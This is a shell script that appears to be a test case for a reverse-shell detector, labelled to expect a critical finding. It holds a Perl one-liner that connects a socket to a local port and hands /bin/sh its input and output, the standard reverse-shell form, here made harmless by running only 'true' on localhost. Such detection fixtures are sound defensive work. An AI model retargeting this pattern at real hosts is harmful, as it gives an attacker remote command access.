#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: perl: dup and exec
# expect: reverse-shell critical
# listen: 127.0.0.1:4451
# needs: /usr/bin/perl
/usr/bin/perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, pack_sockaddr_in(4451, inet_aton("127.0.0.1"))) or exit 1; open(STDIN, "<&S"); open(STDOUT, ">&S"); exec "/bin/sh", "-c", "true"'
